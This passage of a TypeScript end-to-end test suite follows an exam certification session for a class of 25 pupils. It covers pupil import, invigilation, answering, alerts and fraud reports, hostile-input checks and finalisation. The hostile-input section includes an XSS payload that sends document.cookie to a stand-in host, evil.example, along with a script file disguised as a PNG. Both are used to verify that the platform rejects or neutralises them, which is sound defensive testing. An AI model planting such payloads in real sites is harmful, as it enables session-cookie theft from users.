import type { ApiErrorResponse } from '@pix/api-types';
import type {
  AlertView,
  AnswerReceipt,
  AttestationBatchView,
  CentreView,
  CurrentQuestion,
  EnrolmentReport,
  FinalizationForm,
  FraudReportView,
  InvigilatedCandidate,
  InvigilatedSession,
  IssueReportView,
  JoinedSession,
  JurySessionDetail,
  JurySessionSummary,
  PublishBatchResponse,
  PupilCredentials,
  PupilView,
  SessionView,
  ShareableCertificate,
  StartedTest,
  UserCertificationView,
} from '@pix/contracts';
import { type Challenge, loadChallengeBank, referenceAnswer, wrongAnswer } from '@pix/referential';
import { ApiClient, type ApiResponse, ok } from './support/api-client';
import { csvFile } from './support/files';
import { LiveStream } from './support/live-stream';
import { E2E_ADMIN, type RunningPlatform, startPlatformForTests } from './support/platform-harness';
import { knowledgeElementsEarning, readReferentialSkills } from './support/referential';

/**
 * Issue 4, end to end: the morning of the exam in a collège, through the gateway's HTTP API only, on the real
 * services, NATS (JetStream) and PostgreSQL. 25 pupils of one class sit the test with an invigilator watching the
 * live space; things go wrong the way they do in a real room. The tests run in order and build on each other.
 */

const bank = loadChallengeBank();
const CLASS = '3e C';
const SESSION = {
  address: 'Collège Jean Moulin – salle multimédia',
  room: 'Salle 104',
  date: '2099-03-17',
  time: '08:30',
  examiner: 'Mme Caron',
  description: null,
};
const INVIGILATOR = {
  email: 'surveillante.caron@college-moulin.example',
  password: 'Surveiller la session de certification du matin',
  firstName: 'Anne',
  lastName: 'Caron',
  staffRole: null,
};
const FIRST_NAMES = [
  'Léa',
  'Hugo',
  'Chloé',
  'Louis',
  'Inès',
  'Jules',
  'Emma',
  'Noah',
  'Jade',
  'Adam',
  'Lina',
  'Gabriel',
  'Rose',
  'Raphaël',
  'Anna',
  'Arthur',
  'Mila',
  'Sacha',
  'Zoé',
  'Nathan',
  'Lou',
  'Tom',
  'Alice',
  'Maël',
  'Ambre',
];
const LAST_NAMES = [
  'MARTIN',
  'BERNARD',
  'THOMAS',
  'PETIT',
  'ROBERT',
  'RICHARD',
  'DURAND',
  'DUBOIS',
  'MOREAU',
  'LAURENT',
  'SIMON',
  'MICHEL',
  'LEFEBVRE',
  'LEROY',
  'ROUX',
  'DAVID',
  'BERTRAND',
  'MOREL',
  'FOURNIER',
  'GIRARD',
  'BONNET',
  'DUPONT',
  'LAMBERT',
  'FONTAINE',
  'ROUSSEAU',
];
// The smallest valid PNG (1×1, transparent): evidence a phone would upload, checked by content.
const PNG = Uint8Array.from(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64'),
);

interface Pupil {
  readonly index: number;
  readonly firstName: string;
  readonly lastName: string;
  /** `YYYY-MM-DD` */
  readonly birthdate: string;
  account: PupilCredentials;
  client: ApiClient;
  candidateId: number;
  courseId: number;
}

describe('issue 4 — the exam: invigilator space, candidates, the test, incidents and fraud (real services)', () => {
  let running: RunningPlatform;
  let api: string;
  let staff: ApiClient;
  let invigilator: ApiClient;
  let college: CentreView;
  let session: SessionView;
  let live: LiveStream;
  const pupils: Pupil[] = [];

  const sessionPath = () => `/centres/${college.id}/sessions/${session.id}`;
  const invigilationPath = () => `/invigilation/sessions/${session.id}`;
  const pupil = (index: number) => pupils[index] as Pupil;

  async function refused(response: Promise<ApiResponse<unknown>>, status: number, code: string): Promise<string> {
    const answer = await response;
    expect({ status: answer.status, code: (answer.body as ApiErrorResponse | undefined)?.code }).toEqual({
      status,
      code,
    });
    return (answer.body as ApiErrorResponse).message;
  }

  const join = (who: Pupil, birthdate = who.birthdate) =>
    who.client.post<JoinedSession>(`/certification/sessions/${session.id}/join`, {
      json: { firstName: who.firstName, lastName: who.lastName, birthdate },
    });
  const start = (who: Pupil, accessCode = session.accessCode) =>
    who.client.post<StartedTest>(`/certification/sessions/${session.id}/start`, { json: { accessCode } });
  const authorize = (who: Pupil, authorized = true) =>
    invigilator.put<InvigilatedCandidate>(`${invigilationPath()}/candidates/${who.candidateId}/authorization`, {
      json: { authorized },
    });
  const current = (who: Pupil) =>
    who.client.get<CurrentQuestion>(`/certification/courses/${who.courseId}/current-question`);
  const space = () => ok(invigilator.get<InvigilatedSession>(invigilationPath()));

  /** The current question as the candidate sees it, and the bank's challenge behind it (to build answers). */
  async function question(who: Pupil): Promise<{ number: number; challenge: Challenge }> {
    const { question: shown } = await ok(current(who));
    const challenge = shown === null ? undefined : bank.challengeById(shown.challenge.id);
    if (shown === null || challenge === undefined) throw new Error(`${who.firstName} has no current question`);
    return { number: shown.number, challenge };
  }

  /**
   * Answers until `untilNumber` is answered: right, except questions 7 and 14 (wrong) and 11 (skipped). A whole test
   * is then 12 right out of 15 (R = 80): validated. Someone stopped at question 7 has 6 right out of 15.
   */
  async function answerUpTo(who: Pupil, untilNumber: number): Promise<AnswerReceipt[]> {
    const receipts: AnswerReceipt[] = [];
    for (;;) {
      const { question: shown, course } = await ok(current(who));
      if (shown === null || shown.number > untilNumber) return receipts;
      const challenge = bank.challengeById(shown.challenge.id) as Challenge;
      const body =
        shown.number % 11 === 0
          ? { challengeId: challenge.id, skip: true }
          : {
              challengeId: challenge.id,
              answer: shown.number % 7 === 0 ? wrongAnswer(challenge) : referenceAnswer(challenge),
            };
      const receipt = await ok(
        who.client.post<AnswerReceipt>(`/certification/courses/${who.courseId}/answers`, { json: body }),
      );
      expect(receipt).toMatchObject({ questionNumber: shown.number, alreadyRecorded: false });
      expect(receipt.course.answeredCount).toBe(course.answeredCount + 1);
      receipts.push(receipt);
    }
  }

  beforeAll(async () => {
    running = await startPlatformForTests();
    api = `${running.gatewayUrl}/api`;
    staff = await ApiClient.login(api, E2E_ADMIN.email, E2E_ADMIN.password);
    await ok(staff.post('/users', { json: INVIGILATOR }), 201);
    invigilator = await ApiClient.login(api, INVIGILATOR.email, INVIGILATOR.password);
  }, 180_000);

  afterAll(async () => {
    live?.close();
    await running?.stop();
  });

  describe('1. before the candidates arrive', () => {
    it('the collège has a class of 25 pupils with accounts and certifiable profiles, enrolled in a session', async () => {
      college = await ok(
        staff.post<CentreView>('/centres', {
          json: {
            type: 'SCO',
            name: 'Collège Jean Moulin',
            uai: '0330042K',
            address: { street: '3 avenue de la Libération', postalCode: '33000', city: 'Bordeaux' },
          },
        }),
        201,
      );
      const header = [
        'Identifiant national',
        'Nom de famille',
        'Prénom',
        'Date de naissance',
        'Sexe',
        'Division',
        'Code commune de naissance',
        'Commune de naissance',
        'Pays de naissance',
      ];
      const rows = FIRST_NAMES.map((firstName, index) => {
        const day = String(index + 1).padStart(2, '0');
        pupils.push({ index, firstName, lastName: LAST_NAMES[index] as string, birthdate: `2011-04-${day}` } as Pupil);
        return [
          `${String(1_000_000_000 + index)}${'ABCDEFGHJK'[index % 10]}`,
          LAST_NAMES[index] as string,
          firstName,
          `${day}/04/2011`,
          index % 2 === 0 ? 'F' : 'M',
          CLASS,
          '33063',
          '',
          'FRANCE',
        ];
      });
      await ok(
        staff.upload(`/centres/${college.id}/pupils/import`, {
          name: 'eleves-3eC.csv',
          bytes: csvFile([header, ...rows]),
          type: 'text/csv',
        }),
      );
      const { pupils: imported } = await ok(staff.get<{ pupils: PupilView[] }>(`/centres/${college.id}/pupils`));
      expect(imported).toHaveLength(25);
      const skills = readReferentialSkills();
      const since = new Date(Date.now() - 30 * 24 * 3600 * 1000);
      for (const one of pupils) {
        const pupilView = imported.find((view) => view.firstName === one.firstName) as PupilView;
        one.account = await ok(
          staff.post<PupilCredentials>(`/centres/${college.id}/pupils/${pupilView.id}/account`),
          201,
        );
        // First sign-in: the temporary password is changed before anything else.
        const first = await ApiClient.login(api, one.account.username, one.account.temporaryPassword);
        await ok(
          first.post('/auth/password', {
            json: {
              currentPassword: one.account.temporaryPassword,
              newPassword: `${one.firstName} passe sa certification Pix`,
            },
          }),
        );
        one.client = await ApiClient.login(api, one.account.username, `${one.firstName} passe sa certification Pix`);
      }
      // Level 1 on five competences (3 validated skills each): 15 questions, 3 per competence. Pupil 9 has other
      // competences: none of their questions can be in pupil 8's test (section 4).
      const profile = knowledgeElementsEarning(
        skills,
        { '1.1': 12, '2.1': 12, '3.1': 12, '4.1': 12, '5.1': 12 },
        since,
      );
      const other = knowledgeElementsEarning(skills, { '1.2': 12, '2.2': 12, '3.2': 12, '4.2': 12, '5.2': 12 }, since);
      await ok(
        staff.post('/profiles/import', {
          json: {
            profiles: pupils.map((one) => ({
              userId: one.account.userId,
              knowledgeElements: one.index === 9 ? other : profile,
            })),
          },
        }),
        201,
      );
      session = await ok(staff.post<SessionView>(`/centres/${college.id}/sessions`, { json: SESSION }), 201);
      const enrolled = await ok(
        staff.post<EnrolmentReport>(`${sessionPath()}/candidates/enrol-pupils`, { json: { division: CLASS } }),
      );
      expect(enrolled).toMatchObject({ enrolled: 25, candidateCount: 25 });
    });

    it('the invigilator opens the space with the password typed without C-, and watches it live', async () => {
      await refused(
        invigilator.post(`${invigilationPath()}/sign-in`, { json: { password: 'C-BBBBB' } }),
        403,
        'INVIGILATOR_SIGN_IN_REFUSED',
      );
      const opened = await ok(
        invigilator.post<InvigilatedSession>(`${invigilationPath()}/sign-in`, {
          json: { password: session.invigilatorPassword.slice(2).toLowerCase() },
        }),
      );
      expect(opened.candidates).toHaveLength(25);
      expect(opened.candidates.every((one) => one.status === 'not_started' && !one.authorizedToStart)).toBe(true);
      expect(opened.progressAvailable).toBe(true);
      expect(JSON.stringify(opened)).not.toContain(session.accessCode);

      live = await LiveStream.open(`${api}${invigilationPath()}/events`, invigilator.accessToken ?? '');
      const snapshot = await live.waitFor((event) => event.type === 'snapshot');
      expect((snapshot.data['candidates'] as unknown[]).length).toBe(25);
      // Only the session's invigilator may listen.
      const stranger = await LiveStream.open(`${api}${invigilationPath()}/events`, pupil(0).client.accessToken ?? '');
      expect(stranger.status).toBe(403);
      stranger.close();
    });
  });

  describe('2. candidates join and start', () => {
    it('a candidate who mistypes the birthdate is refused, then joins; all 25 join and appear live', async () => {
      const message = await refused(join(pupil(0), '2011-04-02'), 404, 'CANDIDATE_NOT_FOUND_IN_SESSION');
      expect(message).toContain('Aucun candidat inscrit');

      const joined = await Promise.all(pupils.map((one) => ok(join(one))));
      joined.forEach((answer, index) => {
        pupil(index).candidateId = answer.candidateId;
      });
      expect(new Set(joined.map((answer) => answer.candidateId)).size).toBe(25);
      expect(joined[0]).toMatchObject({ certificationCenterName: 'Collège Jean Moulin', authorizedToStart: false });
      await live.waitFor(
        (event) => event.type === 'candidate-changed' && event.data['candidateId'] === pupil(24).candidateId,
      );
    });

    it('without the invigilator’s confirmation nobody starts; a wrong access code is refused', async () => {
      const early = await refused(start(pupil(1)), 403, 'CANDIDATE_NOT_AUTHORIZED');
      expect(early).toContain('n’a pas confirmé votre présence');

      await Promise.all(pupils.filter((one) => one.index !== 2).map((one) => ok(authorize(one))));
      await refused(start(pupil(2)), 403, 'CANDIDATE_NOT_AUTHORIZED');
      const wrong = await refused(start(pupil(1), 'BCDF23'), 400, 'ACCESS_CODE_INVALID');
      expect(wrong).toContain('code d’accès est incorrect');
      const view = await space();
      expect(view.candidates.filter((one) => one.authorizedToStart)).toHaveLength(24);
      expect(view.candidates.every((one) => one.status === 'not_started')).toBe(true);
    });

    it('24 start with the access code (any case), the latecomer once confirmed; each gets their own test', async () => {
      const started = await Promise.all(
        pupils.filter((one) => one.index !== 2).map((one) => ok(start(one, session.accessCode.toLowerCase()))),
      );
      await ok(authorize(pupil(2)));
      started.push(await ok(start(pupil(2))));
      for (const answer of started) {
        const who = pupils.find((one) => one.candidateId === answer.candidateId) as Pupil;
        who.courseId = answer.courseId;
        expect(answer).toMatchObject({ resumed: false, answeredCount: 0, questionCount: 15 });
      }
      expect(new Set(pupils.map((one) => one.courseId)).size).toBe(25);
      const first = await ok(current(pupil(0)));
      expect(first.question?.number).toBe(1);
      expect(first.course).toMatchObject({ state: 'started', answeredCount: 0, questionCount: 15 });
      // The candidate never receives what is expected.
      expect(JSON.stringify(first)).not.toMatch(/solution|tolerance|expectedCount|"skill"/);
      const view = await space();
      expect(view.candidates.every((one) => one.status === 'in_progress' && one.startedAt !== null)).toBe(true);
      expect(view.candidates[0]).toMatchObject({ answeredCount: 0, questionCount: 15 });
    });
  });

  describe('3. the test', () => {
    it('everyone answers and skips; a double click stores one answer; answering ahead is refused', async () => {
      const { challenge } = await question(pupil(3));
      const body = { challengeId: challenge.id, answer: referenceAnswer(challenge) };
      const path = `/certification/courses/${pupil(3).courseId}/answers`;
      const clicks = await Promise.all(
        [1, 2, 3].map(() => ok(pupil(3).client.post<AnswerReceipt>(path, { json: body }))),
      );
      expect(clicks.map((receipt) => receipt.questionNumber)).toEqual([1, 1, 1]);
      expect(clicks.filter((receipt) => receipt.alreadyRecorded)).toHaveLength(2);
      expect((await ok(current(pupil(3)))).course.answeredCount).toBe(1);
      await refused(
        pupil(3).client.post(path, { json: { ...body, answer: wrongAnswer(challenge) } }),
        409,
        'ANSWER_ALREADY_RECORDED',
      );

      // Everyone but the four with a story below (4: browser closed, 5: alert, 6: ended, 7: fraud) finishes.
      const finishers = pupils.filter((one) => ![4, 5, 6, 7].includes(one.index));
      await Promise.all(finishers.map((one) => answerUpTo(one, 15)));
      for (const one of finishers) {
        const after = await ok(current(one));
        expect(after.question).toBeNull();
        expect(after.course).toMatchObject({ state: 'completed', answeredCount: 15 });
      }
      await refused(
        pupil(0).client.post(`/certification/courses/${pupil(0).courseId}/answers`, {
          json: { challengeId: bank.challenges[0]?.id, skip: true },
        }),
        409,
        'COURSE_ENDED',
      );
    });

    it('a candidate whose browser closed at question 6 re-enters, waits for the invigilator and resumes there', async () => {
      const who = pupil(4);
      await answerUpTo(who, 5);
      // Another computer: sign in again, join again (that resets the authorisation), the access code again.
      who.client = await ApiClient.login(api, who.account.username, `${who.firstName} passe sa certification Pix`);
      await ok(join(who));
      const wait = await refused(start(who), 403, 'CANDIDATE_NOT_AUTHORIZED');
      expect(wait).toBe('Merci de contacter votre surveillant afin qu’il autorise la reprise de votre test.');
      await live.waitFor(
        (event) =>
          event.type === 'candidate-changed' &&
          event.data['candidateId'] === who.candidateId &&
          event.data['change'] === 'joined' &&
          event.data['startedAt'] !== null,
      );
      await ok(authorize(who));
      const resumed = await ok(start(who));

      expect(resumed).toMatchObject({ resumed: true, courseId: who.courseId, answeredCount: 5, questionCount: 15 });
      expect((await question(who)).number).toBe(6);
      await answerUpTo(who, 15);
      expect((await ok(current(who))).course).toMatchObject({ state: 'completed', answeredCount: 15 });
    });

    it('"Signaler un problème": the alert appears live, the invigilator validates it as E2 on that question', async () => {
      const who = pupil(5);
      await answerUpTo(who, 2);
      const raised = await ok(who.client.post<AlertView>(`/certification/courses/${who.courseId}/alerts`));
      const again = await ok(who.client.post<AlertView>(`/certification/courses/${who.courseId}/alerts`));
      expect(raised).toMatchObject({ candidateId: who.candidateId, questionNumber: 3, status: 'ongoing' });
      expect(again.id).toBe(raised.id);
      await live.waitFor((event) => event.type === 'alert-raised' && event.data['candidateId'] === who.candidateId);

      const { alerts } = await ok(invigilator.get<{ alerts: AlertView[] }>(`${invigilationPath()}/alerts`));
      expect(alerts.map((alert) => alert.id)).toEqual([raised.id]);
      const decided = await ok(
        invigilator.put<AlertView>(`${invigilationPath()}/alerts/${raised.id}`, {
          json: { decision: 'validated', subcategory: 'E2' },
        }),
      );
      expect(decided).toMatchObject({ status: 'validated', code: 'E2' });
      await refused(
        invigilator.put(`${invigilationPath()}/alerts/${raised.id}`, { json: { decision: 'dismissed' } }),
        409,
        'ALERT_ALREADY_DECIDED',
      );
      const { issueReports } = await ok(
        invigilator.get<{ issueReports: IssueReportView[] }>(`${invigilationPath()}/issue-reports`),
      );
      expect(issueReports).toEqual([
        expect.objectContaining({
          candidateId: who.candidateId,
          code: 'E2',
          questionNumber: 3,
          source: 'candidate_alert',
        }),
      ]);
      await answerUpTo(who, 15);
    });

    it('the invigilator ends a test: the candidate can answer no more, and a finished test is left as it is', async () => {
      const who = pupil(6);
      await answerUpTo(who, 7);
      const ended = await ok(
        invigilator.post<InvigilatedCandidate>(`${invigilationPath()}/candidates/${who.candidateId}/end-test`),
      );

      expect(ended).toMatchObject({ status: 'ended_by_invigilator', answeredCount: 7, questionCount: 15 });
      const { challenge } = { challenge: bank.challenges[0] as Challenge };
      const stillThere = await ok(current(who));
      expect(stillThere.question).toBeNull();
      expect(stillThere.course.state).toBe('ended_by_invigilator');
      await refused(
        who.client.post(`/certification/courses/${who.courseId}/answers`, {
          json: { challengeId: challenge.id, skip: true },
        }),
        409,
        'COURSE_ENDED',
      );
      const finished = await ok(
        invigilator.post<InvigilatedCandidate>(`${invigilationPath()}/candidates/${pupil(0).candidateId}/end-test`),
      );
      expect(finished.status).toBe('finished');
      await live.waitFor((event) => event.type === 'course-ended' && event.data['candidateId'] === who.candidateId);
    });

    it('a fraud report with a photo as evidence is filed, with the C6 report it implies', async () => {
      const who = pupil(7);
      const form = new FormData();
      form.append('candidateId', String(who.candidateId));
      form.append('occurredAt', new Date().toISOString());
      form.append('description', 'Le candidat consultait son téléphone portable caché sous la table à la question 4.');
      form.append('invigilatorName', 'Anne Caron');
      form.append('files', new Blob([PNG], { type: 'image/png' }), 'photo-telephone.png');
      const filed = await ok(
        invigilator.request<FraudReportView>('POST', `${invigilationPath()}/fraud-reports`, { body: form }),
        201,
      );

      expect(filed).toMatchObject({ candidateId: who.candidateId, invigilatorName: 'Anne Caron' });
      expect(filed.evidence).toEqual([
        expect.objectContaining({ fileName: 'photo-telephone.png', contentType: 'image/png', sizeBytes: PNG.length }),
      ]);
      const evidence = await invigilator.get(
        `${invigilationPath()}/fraud-reports/${filed.id}/evidence/${filed.evidence[0]?.id}`,
      );
      expect(evidence.status).toBe(200);
      expect(Buffer.compare(evidence.bytes, Buffer.from(PNG))).toBe(0);
      // The centre sees it too, with the C6 report.
      const { issueReports } = await ok(
        staff.get<{ issueReports: IssueReportView[] }>(`${sessionPath()}/issue-reports`),
      );
      expect(issueReports.filter((report) => report.candidateId === who.candidateId)).toEqual([
        expect.objectContaining({ code: 'C6', source: 'fraud_report' }),
      ]);
      // A text file dressed as a PNG is refused by its content, and nothing is filed.
      const fake = new FormData();
      fake.append('candidateId', String(who.candidateId));
      fake.append('occurredAt', new Date().toISOString());
      fake.append('description', 'Deuxième tentative avec un faux fichier image.');
      fake.append('invigilatorName', 'Anne Caron');
      fake.append('files', new Blob([Buffer.from('<script>alert(1)</script>')], { type: 'image/png' }), 'photo.png');
      await refused(
        invigilator.request('POST', `${invigilationPath()}/fraud-reports`, { body: fake }),
        400,
        'EVIDENCE_FILE_INVALID',
      );
      const { fraudReports } = await ok(
        invigilator.get<{ fraudReports: FraudReportView[] }>(`${invigilationPath()}/fraud-reports`),
      );
      expect(fraudReports).toHaveLength(1);
      // The fraud does not stop the test.
      await answerUpTo(who, 15);
    });

    it('the live space followed everything, and the final view says who finished and who was stopped', async () => {
      const view = await space();
      const byIndex = (index: number) => view.candidates.find((one) => one.id === pupil(index).candidateId);
      expect(view.candidates.filter((one) => one.status === 'finished')).toHaveLength(24);
      expect(byIndex(6)).toMatchObject({ status: 'ended_by_invigilator', answeredCount: 7 });
      expect(byIndex(0)).toMatchObject({ status: 'finished', answeredCount: 15, questionCount: 15 });
      // 25 × 15 answers, less the 8 the ended test never got.
      await live.waitFor(
        () => live.events.filter((event) => event.type === 'answer-recorded').length >= 25 * 15 - 8,
        15_000,
      );
      const completed = live.events.filter((event) => event.type === 'course-completed');
      expect(new Set(completed.map((event) => event.data['candidateId'])).size).toBe(24);
    });
  });

  describe('4. hostile input: a clear 4xx, and nothing changes', () => {
    let victim: Pupil;
    let attacker: Pupil;
    const extra: Pupil[] = [];

    beforeAll(async () => {
      // Two more pupils of the class get a new session, to have tests in progress to attack.
      const second = await ok(
        staff.post<SessionView>(`/centres/${college.id}/sessions`, { json: { ...SESSION, time: '10:30' } }),
        201,
      );
      await ok(
        staff.post(`/centres/${college.id}/sessions/${second.id}/candidates/enrol-pupils`, {
          json: { division: CLASS },
        }),
      );
      await ok(
        invigilator.post(`/invigilation/sessions/${second.id}/sign-in`, {
          json: { password: second.invigilatorPassword },
        }),
      );
      for (const index of [8, 9]) {
        const who: Pupil = { ...pupil(index) };
        const joined = await ok(
          who.client.post<JoinedSession>(`/certification/sessions/${second.id}/join`, {
            json: { firstName: who.firstName, lastName: who.lastName, birthdate: who.birthdate },
          }),
        );
        who.candidateId = joined.candidateId;
        await ok(
          invigilator.put(`/invigilation/sessions/${second.id}/candidates/${who.candidateId}/authorization`, {
            json: { authorized: true },
          }),
        );
        const started = await ok(
          who.client.post<StartedTest>(`/certification/sessions/${second.id}/start`, {
            json: { accessCode: second.accessCode },
          }),
        );
        who.courseId = started.courseId;
        extra.push(who);
      }
      [attacker, victim] = extra as [Pupil, Pupil];
      await answerUpTo(victim, 2);
      await answerUpTo(attacker, 1);
    });

    async function progress(): Promise<[number, number]> {
      return [(await ok(current(victim))).course.answeredCount, (await ok(current(attacker))).course.answeredCount];
    }

    it('answering another candidate’s question, or through another candidate’s test id: refused', async () => {
      const before = await progress();
      const victimQuestion = await question(victim);

      await refused(
        attacker.client.post(`/certification/courses/${attacker.courseId}/answers`, {
          json: { challengeId: victimQuestion.challenge.id, answer: referenceAnswer(victimQuestion.challenge) },
        }),
        400,
        'CHALLENGE_NOT_IN_COURSE',
      );
      // A forged course id (the victim's): the test is "not found", to its reader as to its writer.
      await refused(
        attacker.client.get(`/certification/courses/${victim.courseId}/current-question`),
        404,
        'COURSE_NOT_FOUND',
      );
      await refused(
        attacker.client.post(`/certification/courses/${victim.courseId}/answers`, {
          json: { challengeId: victimQuestion.challenge.id, skip: true },
        }),
        404,
        'COURSE_NOT_FOUND',
      );
      await refused(attacker.client.post(`/certification/courses/${victim.courseId}/alerts`), 404, 'COURSE_NOT_FOUND');
      await refused(attacker.client.get('/certification/courses/99999999/current-question'), 404, 'COURSE_NOT_FOUND');
      await refused(attacker.client.get('/certification/courses/abc/current-question'), 400, 'VALIDATION_FAILED');
      // A candidate is not an invigilator.
      await refused(
        attacker.client.post(`/invigilation/sessions/${session.id}/candidates/${victim.candidateId}/end-test`),
        403,
        'INVIGILATOR_ACCESS_REQUIRED',
      );
      expect(await progress()).toEqual(before);
    });

    it('a huge answer, a malformed one, unknown fields and an answer with a skip: refused', async () => {
      const before = await progress();
      const { challenge } = await question(attacker);
      const path = `/certification/courses/${attacker.courseId}/answers`;

      await refused(
        attacker.client.post(path, { json: { challengeId: challenge.id, answer: { x: 'a'.repeat(2_000_000) } } }),
        413,
        'PAYLOAD_TOO_LARGE',
      );
      await refused(
        attacker.client.post(path, {
          body: '{"challengeId": "x", "answer": [1, 2',
          headers: { 'content-type': 'application/json' },
        }),
        400,
        'MALFORMED_REQUEST',
      );
      await refused(
        attacker.client.post(path, { json: { challengeId: challenge.id, answer: true } }),
        400,
        'VALIDATION_FAILED',
      );
      await refused(
        attacker.client.post(path, {
          json: { challengeId: challenge.id, skip: true, status: 'ok', courseId: victim.courseId },
        }),
        400,
        'VALIDATION_FAILED',
      );
      await refused(
        attacker.client.post(path, {
          json: { challengeId: challenge.id, skip: true, answer: referenceAnswer(challenge) },
        }),
        400,
        'ANSWER_INVALID',
      );
      const misshapen = challenge.type === 'QCU' || challenge.type === 'QCM' ? 999 : { '<script>': 'x' };
      await refused(
        attacker.client.post(path, { json: { challengeId: challenge.id, answer: misshapen } }),
        400,
        'ANSWER_INVALID',
      );
      expect(await progress()).toEqual(before);
    });

    it('a script in a free-text field is stored and returned as plain text, never interpreted', async () => {
      const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
      const created = await ok(
        invigilator.post<IssueReportView>(`${invigilationPath()}/issue-reports`, {
          json: { candidateId: pupil(10).candidateId, code: 'C7', description: `Écran figé ${script}` },
        }),
        201,
      );
      const listed = await invigilator.get<{ issueReports: IssueReportView[] }>(`${invigilationPath()}/issue-reports`);

      expect(created.description).toBe(`Écran figé ${script}`);
      expect(listed.headers.get('content-type')).toContain('application/json');
      expect(listed.body.issueReports.find((report) => report.id === created.id)?.description).toBe(
        `Écran figé ${script}`,
      );
      // A free-text answer holding a script is just a (wrong) answer.
      const { challenge } = await question(victim);
      if (challenge.type !== 'QCU' && challenge.type !== 'QCM') {
        const receipt = await ok(
          victim.client.post<AnswerReceipt>(`/certification/courses/${victim.courseId}/answers`, {
            json: {
              challengeId: challenge.id,
              answer: Object.fromEntries(challenge.fields.map((field) => [field.key, script])),
            },
          }),
        );
        expect(receipt.alreadyRecorded).toBe(false);
      }
    });

    it('killing the testing service mid-test loses no acknowledged answer', async () => {
      const who = attacker;
      const acknowledged: AnswerReceipt[] = [];
      const path = `/certification/courses/${who.courseId}/answers`;
      const testing = running.platform.processes.get('testing');
      if (testing === undefined) throw new Error('no testing process');
      let killed = false;
      // Answers in a tight loop; the service is killed (SIGKILL: no graceful shutdown) after the 3rd receipt.
      for (let attempt = 0; attempt < 400 && acknowledged.length < 8; attempt += 1) {
        const shown = await current(who);
        if (shown.status !== 200) {
          expect(shown.status).toBe(503);
          await new Promise((resolve) => setTimeout(resolve, 250));
          continue;
        }
        const body = shown.body as CurrentQuestion;
        if (body.question === null) break;
        const challenge = bank.challengeById(body.question.challenge.id) as Challenge;
        const answer = await who.client.post<AnswerReceipt>(path, {
          json: { challengeId: challenge.id, answer: referenceAnswer(challenge) },
        });
        if (answer.status === 200) acknowledged.push(answer.body);
        else expect([503]).toContain(answer.status);
        if (acknowledged.length === 3 && !killed) {
          killed = true;
          await testing.stop('SIGKILL');
          testing.start();
        }
      }
      expect(killed).toBe(true);
      expect(acknowledged.length).toBeGreaterThanOrEqual(8);
      // Every acknowledged answer is there: sent again, each is recognised as already recorded, at its number.
      for (const receipt of acknowledged) {
        const challenge = bank.challengeById(receipt.challengeId) as Challenge;
        const replay = await ok(
          who.client.post<AnswerReceipt>(path, {
            json: { challengeId: challenge.id, answer: referenceAnswer(challenge) },
          }),
        );
        expect(replay).toMatchObject({ alreadyRecorded: true, questionNumber: receipt.questionNumber });
      }
      const numbers = acknowledged.map((receipt) => receipt.questionNumber);
      expect(numbers).toEqual([...new Set(numbers)].sort((a, b) => a - b));
      expect((await ok(current(who))).course.answeredCount).toBe(1 + acknowledged.length);
    }, 120_000);
  });

  describe('5. after the session: finalisation, auto-jury, jury, publication, results, attestations, verification', () => {
    const CERTIF = {
      email: 'camille.jury@pix.example',
      password: 'Traiter les sessions de certification du jury',
      firstName: 'Camille',
      lastName: 'Jury',
      staffRole: 'CERTIF',
    };
    const METIER = {
      email: 'marc.metier@pix.example',
      password: 'Lire les sessions de certification sans agir',
      firstName: 'Marc',
      lastName: 'Métier',
      staffRole: 'METIER',
    };
    let certif: ApiClient;
    let metier: ApiClient;
    const juryPath = () => `/jury/sessions/${session.id}`;
    const certificationOf = (detail: JurySessionDetail, who: Pupil) => {
      const found = detail.certifications.find((one) => one.candidateId === who.candidateId);
      if (found === undefined) throw new Error(`no certification for ${who.firstName}`);
      return found;
    };
    const reportsOf = (detail: JurySessionDetail, who: Pupil) => certificationOf(detail, who).issueReports;

    beforeAll(async () => {
      await ok(staff.post('/users', { json: CERTIF }), 201);
      await ok(staff.post('/users', { json: METIER }), 201);
      certif = await ApiClient.login(api, CERTIF.email, CERTIF.password);
      metier = await ApiClient.login(api, METIER.email, METIER.password);
    });

    it('the centre finalises: the form lists the started tests, the checks come in the order of rules §8', async () => {
      const form = await ok(staff.get<FinalizationForm>(`${sessionPath()}/finalization`));
      expect(form.candidates).toHaveLength(25);
      expect(form.candidates.filter((one) => one.abortReasonRequired).map((one) => one.candidateId)).toEqual([
        pupil(6).candidateId,
      ]);
      expect(form.session).toMatchObject({ status: 'created', finalizationOverdue: false });
      // The paper PV d'incident said that Hugo's first name is Hugo-Pierre: the centre copies it as a C1 report.
      await ok(
        staff.post(`${sessionPath()}/issue-reports`, {
          json: { candidateId: pupil(1).candidateId, code: 'C1', description: 'Prénom : Hugo-Pierre' },
        }),
        201,
      );
      const reports = (overrides: Record<number, object> = {}) =>
        form.candidates.map((one) => ({ candidateId: one.candidateId, ...overrides[one.candidateId] }));
      const finalize = (body: object) => staff.post<SessionView>(`${sessionPath()}/finalization`, { json: body });
      const base = { hasIncident: true, hasJoiningIssue: false, examinerGlobalComment: null };

      await refused(finalize({ ...base, reports: reports() }), 400, 'ABORT_REASON_MISSING');
      await refused(
        finalize({
          ...base,
          reports: reports({
            [pupil(6).candidateId]: { abortReason: 'candidate' },
            [pupil(0).candidateId]: { abortReason: 'technical' },
          }),
        }),
        409,
        'ABORT_REASON_ON_COMPLETED_TEST',
      );
      await refused(
        finalize({
          ...base,
          reports: reports({
            [pupil(6).candidateId]: { abortReason: 'candidate', examinerComment: 'x'.repeat(501) },
          }),
        }),
        400,
        'FINALIZATION_INVALID',
      );
      const finalized = await ok(
        finalize({
          ...base,
          reports: reports({
            [pupil(6).candidateId]: { abortReason: 'candidate', examinerComment: 'Parti avant la fin.' },
            [pupil(7).candidateId]: { examinerComment: 'Téléphone portable, voir le PV de fraude.' },
          }),
        }),
      );

      expect(finalized).toMatchObject({ status: 'finalized', finalizedAt: expect.any(String) });
      await refused(finalize({ ...base, reports: reports() }), 409, 'SESSION_ALREADY_FINALIZED');
    });

    it('the finalised session is frozen: no join, no invigilator sign-in, no enrolment, no report change', async () => {
      await refused(join(pupil(2)), 409, 'SESSION_NOT_ACCESSIBLE');
      await refused(
        invigilator.post(`${invigilationPath()}/sign-in`, { json: { password: session.invigilatorPassword } }),
        409,
        'SESSION_NOT_ACCESSIBLE',
      );
      await refused(
